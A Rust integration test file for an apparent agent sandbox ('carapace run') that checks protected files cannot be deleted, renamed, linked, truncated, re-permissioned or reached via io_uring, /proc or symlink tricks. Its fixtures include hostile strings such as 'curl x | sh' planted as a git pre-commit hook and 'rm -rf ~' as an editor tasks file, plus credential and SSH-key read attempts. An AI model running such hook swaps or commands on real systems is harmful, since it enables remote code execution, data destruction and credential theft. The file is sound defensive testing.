//! Changes of names (issue 23): every way to remove, replace, move, link, truncate or
//! re-permission a protected file, run as uid 1000 inside `carapace run`, with the same
//! operations on an unprotected directory as the control. Each refusal must be the kernel's
//! EACCES, leave the file as it was, and reach `carapace run` with the operation's own word.

use std::{
    fs,
    os::unix::{
        fs::{chown, PermissionsExt as _},
        process::CommandExt as _,
    },
    path::Path,
};

use super::{agent, assert_denied_line, guard, session_command, stdout};

/// Runs one operation per line of `ops` (Python expressions over the names `d`, the
/// directory judged, and `o`, an unprotected one) and returns name → errno (0: it worked).
const OPS_SCRIPT: &str = r#"
import ctypes, os, sys
d, o = sys.argv[1], sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
def exchange(a, b):
    if libc.syscall(316, -100, a.encode(), -100, b.encode(), 2) != 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
ops = [
    ("unlink", lambda: os.unlink(d + "/m.txt")),
    ("rename_away", lambda: os.rename(d + "/m.txt", o + "/m-away.txt")),
    ("rename_over", lambda: os.rename(o + "/m-new.txt", d + "/m.txt")),
    ("exchange", lambda: exchange(o + "/m-swap.txt", d + "/m.txt")),
    ("link_onto", lambda: os.link(o + "/m-src.txt", d + "/m-link.txt")),
    ("symlink", lambda: os.symlink(o + "/m-src.txt", d + "/m-sym.txt")),
    ("create", lambda: os.close(os.open(d + "/m-created.txt", os.O_CREAT | os.O_WRONLY, 0o644))),
    ("mkdir", lambda: os.mkdir(d + "/m-dir")),
    ("mkfifo", lambda: os.mkfifo(d + "/m-fifo")),
    ("truncate", lambda: os.truncate(d + "/m.txt", 0)),
    ("o_trunc", lambda: os.close(os.open(d + "/m.txt", os.O_RDONLY | os.O_TRUNC))),
    ("chmod", lambda: os.chmod(d + "/m.txt", 0o600)),
]
for name, op in ops:
    try:
        op()
        print(f"{name}=0")
    except OSError as e:
        print(f"{name}={e.errno}")
"#;

/// Lays out `dir/m.txt` and the other directory's sources, all owned by the agent (uid
/// 1000), so that only Carapace can refuse what follows.
fn lay_out(dir: &str, other: &str) {
    for d in [dir, other] {
        let _ = fs::remove_dir_all(d);
        fs::create_dir_all(d).expect("mkdir");
        fs::set_permissions(d, fs::Permissions::from_mode(0o777)).expect("chmod dir");
    }
    for (path, text) in [
        (format!("{dir}/m.txt"), "fixture\n"),
        (format!("{other}/m-new.txt"), "replaced\n"),
        (format!("{other}/m-swap.txt"), "swapped\n"),
        (format!("{other}/m-src.txt"), "linked\n"),
    ] {
        fs::write(&path, text).expect("write");
        fs::set_permissions(&path, fs::Permissions::from_mode(0o644)).expect("chmod");
        chown(&path, Some(1000), Some(1000)).expect("chown");
    }
}

fn results(text: &str) -> Vec<(String, String)> {
    text.lines()
        .filter_map(|l| l.split_once('='))
        .map(|(k, v)| (k.to_owned(), v.trim().to_owned()))
        .collect()
}

fn run_ops(dir: &str, other: &str) -> std::process::Output {
    fs::write("/tmp/names-ops.py", OPS_SCRIPT).expect("write script");
    fs::set_permissions("/tmp/names-ops.py", fs::Permissions::from_mode(0o644)).expect("chmod");
    agent(&format!("python3 /tmp/names-ops.py {dir} {other}"))
}

#[test]
fn a_write_protected_file_keeps_its_name_content_and_mode() {
    let _g = guard();
    // `/srv/readonly/**` is write-only protected (readonly-tree).
    let (dir, other) = ("/srv/readonly/names", "/srv/open/names-src");
    lay_out(dir, other);
    let out = run_ops(dir, other);
    let got = results(&stdout(&out));
    assert_eq!(got.len(), 12, "every operation ran: {got:?}");
    for (name, errno) in &got {
        assert_eq!(errno, "13", "{name} must be refused with EACCES: {got:?}");
    }
    let file = format!("{dir}/m.txt");
    assert_eq!(fs::read_to_string(&file).expect("still there"), "fixture\n");
    let mode = fs::metadata(&file).expect("stat").permissions().mode() & 0o777;
    assert_eq!(mode, 0o644, "mode unchanged");
    for made in [
        "m-link.txt",
        "m-sym.txt",
        "m-created.txt",
        "m-dir",
        "m-fifo",
    ] {
        assert!(
            fs::symlink_metadata(format!("{dir}/{made}")).is_err(),
            "{made} must not exist: a refused creation leaves nothing behind"
        );
    }
    let rule = "(rule readonly-tree: This tree is read-only for agents)";
    for line in [
        format!("blocked delete of {file} {rule}"),
        format!("blocked rename of {file} {rule}"),
        format!("blocked rename onto {file} {rule}"),
        format!("blocked hard link onto {dir}/m-link.txt {rule}"),
        format!("blocked symlink onto {dir}/m-sym.txt {rule}"),
        format!("blocked create of {dir}/m-created.txt {rule}"),
        format!("blocked create of {dir}/m-dir {rule}"),
        format!("blocked create of {dir}/m-fifo {rule}"),
        format!("blocked truncate of {file} {rule}"),
        format!("blocked write of {file} {rule}"),
        format!("blocked chmod of {file} {rule}"),
    ] {
        assert_denied_line(&out, &line);
    }
}

#[test]
fn the_same_changes_of_an_unprotected_file_work() {
    let _g = guard();
    let (dir, other) = ("/srv/open/names", "/srv/open/names-src");
    lay_out(dir, other);
    let out = run_ops(dir, other);
    let got = results(&stdout(&out));
    // unlink removes m.txt and rename_away has nothing left to move (ENOENT); rename_over
    // and exchange make it again; every other operation works.
    let expected = [
        ("unlink", "0"),
        ("rename_away", "2"),
        ("rename_over", "0"),
        ("exchange", "0"),
        ("link_onto", "0"),
        ("symlink", "0"),
        ("create", "0"),
        ("mkdir", "0"),
        ("mkfifo", "0"),
        ("truncate", "0"),
        ("o_trunc", "0"),
        ("chmod", "0"),
    ];
    let expected: Vec<(String, String)> = expected
        .iter()
        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
        .collect();
    assert_eq!(got, expected);
    assert!(
        !super::stderr(&out).contains("carapace: blocked"),
        "no denial for an unprotected directory"
    );
}

/// Runs `script` as the agent and returns its stdout.
fn agent_stdout(script: &str) -> (String, std::process::Output) {
    let out = agent(script);
    (stdout(&out), out)
}

#[test]
fn hook_directories_cannot_be_swapped_in_or_out() {
    let _g = guard();
    // `**/.githooks/**` is write-protected (githook-dirs), except `**/.githooks/examples/**`.
    for repo in ["/srv/open/repo", "/srv/open/repo2"] {
        let _ = fs::remove_dir_all(repo);
        fs::create_dir_all(repo).expect("mkdir repo");
        fs::set_permissions(repo, fs::Permissions::from_mode(0o777)).expect("chmod");
    }
    fs::create_dir_all("/srv/open/repo/.githooks/examples").expect("mkdir hooks");
    fs::set_permissions(
        "/srv/open/repo/.githooks",
        fs::Permissions::from_mode(0o777),
    )
    .expect("chmod");
    fs::set_permissions(
        "/srv/open/repo/.githooks/examples",
        fs::Permissions::from_mode(0o777),
    )
    .expect("chmod");
    fs::write("/srv/open/repo/.githooks/pre-commit", "#!/bin/sh\n").expect("hook");
    let _ = fs::remove_dir_all("/srv/open/evil-hooks");
    let (text, out) = agent_stdout(
        "cd /srv/open; \
         echo x > repo/.githooks/post-merge; echo create=$?; \
         mv repo/.githooks repo/.githooks-old; echo move_out=$?; \
         mkdir /srv/open/evil-hooks && echo 'curl x | sh' > /srv/open/evil-hooks/pre-commit; \
         mv /srv/open/evil-hooks repo2/.githooks; echo move_in=$?; \
         ln -s /srv/open/evil-hooks repo2/.githooks; echo symlink_in=$?; \
         echo ok > repo/.githooks/examples/sample; echo example=$?; \
         mv /srv/open/evil-hooks repo2/tools; echo control_move=$?",
    );
    for (what, want) in [
        ("create", "1"),
        ("move_out", "1"),
        ("move_in", "1"),
        ("symlink_in", "1"),
        ("example", "0"),
        ("control_move", "0"),
    ] {
        assert!(
            text.contains(&format!("{what}={want}\n")),
            "{what} must give {want}:\n{text}"
        );
    }
    assert!(!Path::new("/srv/open/repo2/.githooks").exists());
    assert!(Path::new("/srv/open/repo/.githooks/pre-commit").exists());
    let rule = "(rule githook-dirs:";
    assert_denied_line(
        &out,
        &format!("blocked create of /srv/open/repo/.githooks/post-merge {rule}"),
    );
    assert_denied_line(
        &out,
        &format!("blocked rename of /srv/open/repo/.githooks {rule}"),
    );
    assert_denied_line(
        &out,
        &format!("blocked rename onto /srv/open/repo2/.githooks {rule}"),
    );
    assert_denied_line(
        &out,
        &format!("blocked symlink onto /srv/open/repo2/.githooks {rule}"),
    );
}

#[test]
fn pattern_protected_files_get_no_new_name() {
    let _g = guard();
    // Their parents are the agent's to change, so only Carapace refuses what follows.
    fs::set_permissions("/srv", fs::Permissions::from_mode(0o777)).expect("chmod /srv");
    let owned = |path: &str| {
        let dir = Path::new(path).parent().expect("parent");
        fs::create_dir_all(dir).expect("mkdir");
        fs::set_permissions(dir, fs::Permissions::from_mode(0o777)).expect("chmod");
        fs::write(path, "fixture\n").expect("write");
        chown(path, Some(1000), Some(1000)).expect("chown");
    };
    // A basename rule, a glob with `**` in the middle, a regex.
    owned("/srv/open/keys2/forbidden.key");
    owned("/srv/projects/a/secret-1.pem");
    owned("/srv/vault/7.secret");
    let (text, out) = agent_stdout(
        "for f in /srv/open/keys2/forbidden.key /srv/projects/a/secret-1.pem /srv/vault/7.secret; do \
           ln $f /srv/open/linked 2>/dev/null; echo link=$?; \
           mv $f /srv/open/moved 2>/dev/null; echo move=$?; \
         done; \
         mv /srv/projects /srv/projects-moved; echo move_projects=$?; \
         mv /srv/data /srv/data-moved; echo move_data=$?; \
         mv /srv/open/keys2 /srv/open/keys3 && cat /srv/open/keys3/forbidden.key; echo read_moved=$?",
    );
    assert_eq!(text.matches("link=1").count(), 3, "{text}");
    assert_eq!(text.matches("move=1").count(), 3, "{text}");
    for what in ["move_projects=1", "move_data=1", "read_moved=1"] {
        assert!(text.contains(what), "{what}:\n{text}");
    }
    assert!(!text.contains("fixture"), "nothing leaked:\n{text}");
    for line in [
        "blocked hard link of /srv/open/keys2/forbidden.key (rule forbidden-key",
        "blocked rename of /srv/open/keys2/forbidden.key (rule forbidden-key",
        "blocked hard link of /srv/projects/a/secret-1.pem (rule project-secret-keys",
        "blocked rename of /srv/projects/a/secret-1.pem (rule project-secret-keys",
        "blocked hard link of /srv/vault/7.secret (rule numbered-vault-secrets",
        "blocked rename of /srv/vault/7.secret (rule numbered-vault-secrets",
        "blocked rename of /srv/projects (rule project-secret-keys",
        "blocked rename of /srv/data (rule token-file",
        "blocked read of /srv/open/keys3/forbidden.key (rule forbidden-key",
    ] {
        assert_denied_line(&out, line);
    }
    let _ = fs::remove_dir_all("/srv/open/keys3");
    let _ = fs::remove_dir_all("/srv/open/keys2");
}

#[test]
fn directories_inside_a_pattern_cannot_be_carried_in_or_out() {
    let _g = guard();
    // `**/.editor/tasks.json` (editor-tasks) names a directory only as part of a path; the
    // glob `/srv/projects/**/secret-*.pem` spans any directory below /srv/projects.
    fs::set_permissions("/srv", fs::Permissions::from_mode(0o777)).expect("chmod /srv");
    for leftover in ["/srv/open/ed", "/srv/open/ed-evil", "/srv/open/carried"] {
        let _ = fs::remove_dir_all(leftover);
    }
    for dir in ["/srv/open/ed/.editor", "/srv/projects/deep/a"] {
        fs::create_dir_all(dir).expect("mkdir");
    }
    for (path, owner_dir) in [
        ("/srv/open/ed/.editor/tasks.json", "/srv/open/ed"),
        ("/srv/projects/deep/a/secret-2.pem", "/srv/projects/deep"),
    ] {
        fs::write(path, "fixture\n").expect("write");
        for d in walkdirs(owner_dir) {
            chown(&d, Some(1000), Some(1000)).expect("chown");
        }
    }
    let (text, out) = agent_stdout(
        "cd /srv/open/ed; \
         mv .editor .editor-x; echo out=$?; \
         mkdir /srv/open/ed-evil && echo 'rm -rf ~' > /srv/open/ed-evil/tasks.json; \
         mkdir other && mv /srv/open/ed-evil other/.editor; echo in=$?; \
         ln -s /srv/open/ed-evil other/.editor; echo symlink=$?; \
         mv /srv/projects/deep/a /srv/open/carried; echo spanned=$?; \
         cat /srv/open/carried/secret-2.pem; \
         mkdir .vscode-like && mv .vscode-like plain; echo control=$?",
    );
    for (what, want) in [
        ("out", "1"),
        ("in", "1"),
        ("symlink", "1"),
        ("spanned", "1"),
        ("control", "0"),
    ] {
        assert!(
            text.contains(&format!("{what}={want}\n")),
            "{what} must give {want}:\n{text}"
        );
    }
    assert!(!text.contains("fixture"), "nothing leaked:\n{text}");
    assert!(Path::new("/srv/open/ed/.editor/tasks.json").exists());
    for line in [
        "blocked rename of /srv/open/ed/.editor (rule editor-tasks:",
        "blocked rename onto /srv/open/ed/other/.editor (rule editor-tasks:",
        "blocked symlink onto /srv/open/ed/other/.editor (rule editor-tasks:",
        "blocked rename of /srv/projects/deep/a (rule project-secret-keys:",
    ] {
        assert_denied_line(&out, line);
    }
}

/// `dir` and every directory and file below it.
fn walkdirs(dir: &str) -> Vec<std::path::PathBuf> {
    let mut out = vec![std::path::PathBuf::from(dir)];
    let mut i = 0;
    while i < out.len() {
        if let Ok(entries) = fs::read_dir(&out[i]) {
            out.extend(entries.filter_map(Result::ok).map(|e| e.path()));
        }
        i += 1;
    }
    out
}

/// An `O_TMPFILE` file written first and given its name last, with `linkat` through
/// `/proc/self/fd` (an `O_TMPFILE` opened for writing in a protected tree is refused at
/// once: its path is the directory's); and io_uring's unlink and rename, which skip the
/// libc calls.
const LATE_NAMES: &str = r#"
import ctypes, mmap, os, struct, sys
d, o = sys.argv[1], sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
def errno_of(f):
    try:
        f()
        return 0
    except OSError as e:
        return e.errno
def tmpfile_link():
    # Made nameless where writing is allowed, named last where it is not.
    fd = os.open(o, os.O_TMPFILE | os.O_WRONLY, 0o644)
    os.write(fd, b"evil\n")
    # linkat(AT_SYMLINK_FOLLOW): CPython's os.link calls link(2), which would link the
    # magic link itself.
    src = f"/proc/self/fd/{fd}".encode()
    if libc.linkat(-100, src, -100, (d + "/late.txt").encode(), 0x400) != 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
print("tmpfile_link", errno_of(tmpfile_link))
params = ctypes.create_string_buffer(120)
fd = libc.syscall(425, 4, params)
sq_entries, cq_entries = struct.unpack_from("II", params, 0)
sq_off = struct.unpack_from("IIIIIIII", params, 40)
cq_off = struct.unpack_from("IIIIIIII", params, 80)
sq = mmap.mmap(fd, sq_off[6] + sq_entries * 4, offset=0)
cq = mmap.mmap(fd, cq_off[5] + cq_entries * 16, offset=0x8000000)
sqes = mmap.mmap(fd, sq_entries * 64, offset=0x10000000)
def submit(name, sqe):
    sqes[0:64] = sqe.ljust(64, b"\0")
    tail = struct.unpack_from("I", sq, sq_off[1])[0]
    mask = struct.unpack_from("I", sq, sq_off[2])[0]
    struct.pack_into("I", sq, sq_off[6] + (tail & mask) * 4, 0)
    struct.pack_into("I", sq, sq_off[1], tail + 1)
    libc.syscall(426, fd, 1, 1, 1, None, 0)
    head = struct.unpack_from("I", cq, cq_off[0])[0]
    cmask = struct.unpack_from("I", cq, cq_off[2])[0]
    _, res = struct.unpack_from("<Qi", cq, cq_off[5] + (head & cmask) * 16)
    struct.pack_into("I", cq, cq_off[0], head + 1)
    print(name, -res)
old = ctypes.create_string_buffer((d + "/m.txt").encode())
new = ctypes.create_string_buffer((d + "/m-uring.txt").encode())
# IORING_OP_UNLINKAT (36) and IORING_OP_RENAMEAT (35): fd, off = new path, addr, len = newdirfd.
submit("uring_unlink", struct.pack("<BBHiQQIIQ", 36, 0, 0, -100, 0, ctypes.addressof(old), 0, 0, 1))
submit("uring_rename", struct.pack("<BBHiQQIIQ", 35, 0, 0, -100, ctypes.addressof(new), ctypes.addressof(old), 0xffffff9c, 0, 2))
"#;

#[test]
fn late_names_and_io_uring_are_judged_like_the_rest() {
    let _g = guard();
    let mut results = Vec::new();
    for (dir, other) in [
        ("/srv/readonly/late", "/srv/open/late-src"),
        ("/srv/open/late", "/srv/open/late-src"),
    ] {
        lay_out(dir, other);
        fs::write("/tmp/late-names.py", LATE_NAMES).expect("write script");
        let out = agent(&format!("python3 /tmp/late-names.py {dir} {other}"));
        results.push((dir, stdout(&out), out));
    }
    let (dir, text, out) = &results[0];
    for what in ["tmpfile_link 13", "uring_unlink 13", "uring_rename 13"] {
        assert!(text.contains(what), "{what} in {dir}:\n{text}");
    }
    assert_eq!(
        fs::read_to_string(format!("{dir}/m.txt")).expect("still there"),
        "fixture\n"
    );
    assert!(!Path::new(&format!("{dir}/late.txt")).exists());
    let rule = "(rule readonly-tree:";
    assert_denied_line(
        out,
        &format!("blocked hard link onto {dir}/late.txt {rule}"),
    );
    assert_denied_line(out, &format!("blocked delete of {dir}/m.txt {rule}"));
    // The control: the same three work in an unprotected directory (the rename finds
    // m.txt gone after the unlink: ENOENT).
    let (dir, text, _) = &results[1];
    for what in ["tmpfile_link 0", "uring_unlink 0", "uring_rename 2"] {
        assert!(text.contains(what), "{what} in {dir}:\n{text}");
    }
}

#[test]
fn a_symlink_cannot_stand_in_for_a_missing_parent_of_protected_paths() {
    let _g = guard();
    // /srv/projects is above `/srv/projects/**/secret-*.pem`; moved away by root for the
    // test, it is a name a symlink could take.
    fs::set_permissions("/srv", fs::Permissions::from_mode(0o777)).expect("chmod /srv");
    fs::create_dir_all("/srv/projects").expect("mkdir /srv/projects");
    let _ = fs::remove_dir_all("/srv/projects-away");
    fs::rename("/srv/projects", "/srv/projects-away").expect("move away");
    let (text, out) = agent_stdout(
        "mkdir -p /srv/open/fake/a && ln -s /srv/open/fake /srv/projects; echo symlink=$?",
    );
    let _ = fs::remove_file("/srv/projects");
    fs::rename("/srv/projects-away", "/srv/projects").expect("move back");
    assert!(text.contains("symlink=1"), "{text}");
    assert_denied_line(
        &out,
        "blocked symlink onto /srv/projects (rule project-secret-keys:",
    );
}

#[test]
fn a_deleted_protected_file_held_open_elsewhere_is_still_judged_by_its_name() {
    let _g = guard();
    // A process of the user holds a protected file that has since been deleted; the agent
    // reopens it through /proc/PID/fd, where d_path says `… (deleted)` and an end-anchored
    // pattern would no longer match. Outside the session the holder cannot be reached at
    // all (ptrace_access_check); moved into the session, its descriptor can, and the
    // reopen is judged by the file's name.
    fs::create_dir_all("/srv/vault").expect("mkdir");
    let path = "/srv/vault/9.secret";
    fs::write(path, "fixture\n").expect("write");
    chown(path, Some(1000), Some(1000)).expect("chown");
    let mut holder = std::process::Command::new("python3")
        .args(["-c", &format!("import sys, time\nf = open('{path}')\nprint(f.fileno(), flush=True)\ntime.sleep(120)")])
        .uid(1000)
        .gid(1000)
        .current_dir("/tmp")
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("start holder");
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(holder.stdout.take().expect("stdout")),
        &mut line,
    )
    .expect("fd");
    fs::remove_file(path).expect("delete");
    let reopen = format!("cat /proc/{}/fd/{}; echo st=$?", holder.id(), line.trim());
    let (text, out) = agent_stdout(&reopen);
    assert!(text.contains("st=1"), "{text}");
    assert!(!text.contains("fixture"), "nothing leaked:\n{text}");
    assert_denied_line(
        &out,
        &format!(
            "blocked ptrace of process {} outside the session",
            holder.id()
        ),
    );

    let _ = fs::remove_file("/tmp/holder-moved");
    let script = format!("while [ ! -e /tmp/holder-moved ]; do sleep 0.1; done; {reopen}");
    let run = session_command(&["bash", "-c", &script], Some(1000))
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("start the session");
    let cgroup = session_cgroup(run.id());
    fs::write(cgroup.join("cgroup.procs"), holder.id().to_string()).expect("move the holder in");
    fs::write("/tmp/holder-moved", "").expect("signal");
    let out = run.wait_with_output().expect("wait for the session");
    let _ = holder.kill();
    let _ = holder.wait();
    let text = stdout(&out);
    assert!(text.contains("st=1"), "{text}");
    assert!(!text.contains("fixture"), "nothing leaked:\n{text}");
    assert_denied_line(
        &out,
        "blocked read of /srv/vault/9.secret (rule numbered-vault-secrets:",
    );
}

/// The session cgroup `carapace run` (pid `run`) moved itself into.
fn session_cgroup(run: u32) -> std::path::PathBuf {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    loop {
        let text = fs::read_to_string(format!("/proc/{run}/cgroup")).unwrap_or_default();
        if let Some(rel) = text.lines().find_map(|l| l.strip_prefix("0::")) {
            if rel.starts_with("/carapace/") {
                return std::path::PathBuf::from(format!("/sys/fs/cgroup{rel}"));
            }
        }
        assert!(
            std::time::Instant::now() < deadline,
            "carapace run never joined a session"
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}

/// Times and extended attributes of `sys.argv[1:]`, one `name:op=errno` line each.
const ATTRS_SCRIPT: &str = r#"
import os, struct, sys
# A POSIX ACL equal to mode 0644 (version 2; user::rw-, group::r--, other::r--).
acl = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", t, p, 0xFFFFFFFF) for t, p in [(1, 6), (4, 4), (0x20, 4)])
for f in sys.argv[1:]:
    ops = [
        ("utime", lambda: os.utime(f, (0, 0))),
        ("touch", lambda: os.utime(f)),
        ("setxattr", lambda: os.setxattr(f, "user.carapace", b"1")),
        ("removexattr", lambda: os.removexattr(f, "user.carapace")),
        ("acl", lambda: os.setxattr(f, "system.posix_acl_access", acl)),
        # Through a descriptor opened for reading: the same hooks, no path at all.
        ("futimens", lambda: os.utime(os.open(f, os.O_RDONLY), (0, 0))),
        ("fsetxattr", lambda: os.setxattr(os.open(f, os.O_RDONLY), "user.carapace", b"1")),
    ]
    for name, op in ops:
        try:
            op()
            print(f"{f}:{name}=0")
        except OSError as e:
            print(f"{f}:{name}={e.errno}")
"#;

#[test]
fn times_and_extended_attributes_of_a_protected_file_stay_as_they_were() {
    let _g = guard();
    // readonly-tree (a prefix, write-only) and forbidden-key (a basename, under /tmp, which
    // may be a file system of its own: the mount is found from the file's super block).
    let protected = ["/srv/readonly/attrs.txt", "/tmp/keys/attrs/forbidden.key"];
    let control = "/srv/open/attrs.txt";
    let _ = fs::create_dir_all("/tmp/keys/attrs");
    for f in protected.iter().chain([&control]) {
        fs::write(f, "fixture\n").expect("write");
        fs::set_permissions(f, fs::Permissions::from_mode(0o644)).expect("chmod");
        chown(f, Some(1000), Some(1000)).expect("chown");
    }
    let before: Vec<_> = protected
        .iter()
        .map(|f| fs::metadata(f).expect("stat").modified().expect("mtime"))
        .collect();
    fs::write("/tmp/attrs.py", ATTRS_SCRIPT).expect("write script");
    let out = agent(&format!(
        "python3 /tmp/attrs.py {} {} {control}",
        protected[0], protected[1]
    ));
    let got = results(&stdout(&out));
    assert_eq!(got.len(), 21, "every operation ran: {got:?}");
    for (name, errno) in &got {
        let (file, op) = name.split_once(':').expect("file:op");
        if file == control {
            // tmpfs has user attributes from Linux 6.6 only (EOPNOTSUPP before); the kernel
            // layer refuses none of these.
            let fine = errno == "0" || (op.ends_with("xattr") && errno == "95");
            assert!(fine, "{name} must work on an unprotected file: {got:?}");
        } else {
            assert_eq!(errno, "13", "{name} must be refused with EACCES: {got:?}");
        }
    }
    for (f, mtime) in protected.iter().zip(before) {
        let now = fs::metadata(f).expect("stat").modified().expect("mtime");
        assert_eq!(now, mtime, "{f}: times unchanged");
    }
    assert_denied_line(
        &out,
        "blocked times change of /srv/readonly/attrs.txt (rule readonly-tree",
    );
    assert_denied_line(
        &out,
        "blocked attribute change of /srv/readonly/attrs.txt (rule readonly-tree",
    );
    assert_denied_line(
        &out,
        "blocked times change of /tmp/keys/attrs/forbidden.key (rule forbidden-key",
    );
    // Outside a session the same script changes the protected files too.
    let outside = std::process::Command::new("python3")
        .args(["/tmp/attrs.py", protected[0]])
        .output()
        .expect("run outside");
    let outside = results(&String::from_utf8_lossy(&outside.stdout));
    assert!(
        outside
            .iter()
            .any(|(n, e)| n.ends_with(":utime") && e == "0"),
        "times change outside a session: {outside:?}"
    );
}

/// A protected tree or file reached through a symlink when the rules load (`~/.ssh` linked
/// into a dotfiles checkout, `~/.bashrc` managed by stow) is protected at the link's target:
/// the target's files cannot be read or written by their own names, and the directories
/// above the target cannot be moved away and replaced.
#[test]
fn protected_paths_behind_a_symlink_are_protected_at_the_target() {
    let _g = guard();
    let rules = "/etc/carapace/rules.yaml";
    let original = fs::read_to_string(rules).expect("rules file");
    let _ = fs::remove_dir_all("/srv/linked");
    for dir in [
        "/srv/linked/dotfiles/ssh",
        "/srv/linked/dotfiles/bash",
        "/srv/linked/home",
        "/srv/linked/dots",
        "/srv/linked/dotfiles/config",
    ] {
        fs::create_dir_all(dir).expect("mkdir");
        fs::set_permissions(dir, fs::Permissions::from_mode(0o777)).expect("chmod");
    }
    for dir in ["/srv/linked", "/srv/linked/dotfiles"] {
        fs::set_permissions(dir, fs::Permissions::from_mode(0o777)).expect("chmod");
    }
    fs::write("/srv/linked/dotfiles/ssh/id_rsa", "KEY\n").expect("key");
    fs::write("/srv/linked/dotfiles/bash/.bashrc", "# rc\n").expect("rc");
    fs::write("/srv/linked/dotfiles/notes.txt", "notes\n").expect("notes");
    for f in ["ssh/id_rsa", "bash/.bashrc", "notes.txt"] {
        fs::set_permissions(
            format!("/srv/linked/dotfiles/{f}"),
            fs::Permissions::from_mode(0o666),
        )
        .expect("chmod");
    }
    // A chain: home/.ssh → dots/ssh → dotfiles/ssh (the middle link relative).
    std::os::unix::fs::symlink("../dotfiles/ssh", "/srv/linked/dots/ssh").expect("link");
    std::os::unix::fs::symlink("/srv/linked/dots/ssh", "/srv/linked/home/.ssh").expect("link ssh");
    // A linked directory whose protected subdirectory is made only later.
    std::os::unix::fs::symlink("/srv/linked/dotfiles/config", "/srv/linked/home/.config")
        .expect("link config");
    std::os::unix::fs::symlink(
        "/srv/linked/dotfiles/bash/.bashrc",
        "/srv/linked/home/.bashrc",
    )
    .expect("link rc");
    fs::write(
        rules,
        format!(
            "{original}\n  - id: linked-ssh\n    block: \"/srv/linked/home/.ssh/**\"\n\
             \n  - id: linked-autostart\n    block: \"/srv/linked/home/.config/autostart/**\"\n    actions: [write]\n\
             \n  - id: linked-rc\n    block: \"/srv/linked/home/.bashrc\"\n    actions: [write, delete]\n"
        ),
    )
    .expect("write rules");
    let reload = std::process::Command::new("carapace")
        .args(["rules", "reload"])
        .status()
        .expect("reload");
    let (text, _) = agent_stdout(
        "cd /srv/linked/dotfiles; \
         cat ssh/id_rsa >/dev/null 2>&1; echo read_target=$?; \
         echo x >> bash/.bashrc; echo write_target=$?; \
         mv bash bash-old; echo move_parent=$?; \
         mkdir -p /tmp/evil-ssh; \
         ln -sfn /tmp/evil-ssh /srv/linked/dots/ssh; echo replace_middle=$?; \
         rm /srv/linked/dots/ssh; echo unlink_middle=$?; \
         mv /srv/linked/dots /srv/linked/dots-old; echo move_middle_parent=$?; \
         ln -sfn /tmp/evil-ssh /srv/linked/home/.ssh; echo replace_first=$?; \
         ln -s /tmp/evil-ssh /srv/linked/home/other; echo control_link=$?; \
         mkdir -p /srv/linked/home/.config/autostart && \
           echo x > /srv/linked/home/.config/autostart/a.desktop; echo late_tree=$?; \
         mkdir -p /srv/linked/home/.config/other; echo control_late=$?; \
         cat notes.txt >/dev/null; echo control_read=$?; \
         mkdir -p other && mv other other2; echo control_move=$?",
    );
    fs::write(rules, &original).expect("restore rules");
    let restored = std::process::Command::new("carapace")
        .args(["rules", "reload"])
        .status()
        .expect("reload");
    assert!(reload.success() && restored.success(), "rules reload");
    for (what, want) in [
        ("read_target", "1"),
        ("write_target", "1"),
        ("move_parent", "1"),
        ("replace_middle", "1"),
        ("unlink_middle", "1"),
        ("move_middle_parent", "1"),
        ("replace_first", "1"),
        ("control_link", "0"),
        ("late_tree", "1"),
        ("control_late", "0"),
        ("control_read", "0"),
        ("control_move", "0"),
    ] {
        assert!(
            text.contains(&format!("{what}={want}\n")),
            "{what} should be {want}: {text}"
        );
    }
}

/// Runs `carapace` with `args` as root outside any session.
fn carapace(args: &[&str]) -> bool {
    std::process::Command::new("carapace")
        .args(args)
        .status()
        .is_ok_and(|s| s.success())
}

#[test]
fn names_that_change_after_the_rules_loaded_are_followed() {
    let _g = guard();
    let rules = "/etc/carapace/rules.yaml";
    let original = fs::read_to_string(rules).expect("rules file");
    let _ = std::process::Command::new("umount")
        .arg("/mnt/late-dots")
        .status();
    let _ = fs::remove_dir_all("/srv/late");
    for dir in ["/srv/late/home", "/srv/late/dots/aws", "/mnt/late-dots"] {
        fs::create_dir_all(dir).expect("mkdir");
        fs::set_permissions(dir, fs::Permissions::from_mode(0o777)).expect("chmod");
    }
    for (f, text) in [
        ("/srv/late/dots/aws/credentials", "CRED\n"),
        ("/srv/late/dots/profile", "# profile\n"),
        ("/srv/late/dots/notes.txt", "notes\n"),
    ] {
        fs::write(f, text).expect("write");
        fs::set_permissions(f, fs::Permissions::from_mode(0o666)).expect("chmod");
    }
    // Loaded while neither protected name exists: nothing to follow yet.
    fs::write(
        rules,
        format!(
            "{original}\n  - id: late-aws\n    block: \"/srv/late/home/.aws/**\"\n\
             \n  - id: late-profile\n    block: \"/srv/late/home/.profile\"\n    actions: [write, delete]\n"
        ),
    )
    .expect("write rules");
    let loaded = carapace(&["rules", "reload"]);
    // Then the user links both into a dotfiles directory and mounts that directory again
    // elsewhere, and a new file appears in it.
    std::os::unix::fs::symlink("/srv/late/dots/aws", "/srv/late/home/.aws").expect("link aws");
    std::os::unix::fs::symlink("/srv/late/dots/profile", "/srv/late/home/.profile")
        .expect("link profile");
    let mounted = std::process::Command::new("mount")
        .args(["--bind", "/srv/late/dots", "/mnt/late-dots"])
        .status()
        .is_ok_and(|s| s.success());
    fs::write("/srv/late/dots/aws/late.txt", "LATE\n").expect("late file");
    fs::set_permissions(
        "/srv/late/dots/aws/late.txt",
        fs::Permissions::from_mode(0o666),
    )
    .expect("chmod");
    // The daemon notices on its own while a session is live (two checks of its watcher):
    // keep one live, and wait, bounded, for the first refusal before judging the rest.
    let _live = session_command(&["sleep", "120"], Some(1000))
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("start a session");
    let mut followed = false;
    for _ in 0..30 {
        let (text, _) =
            agent_stdout("cat /srv/late/home/.aws/credentials >/dev/null 2>&1; echo read=$?");
        if text.contains("read=1") {
            followed = true;
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(500));
    }
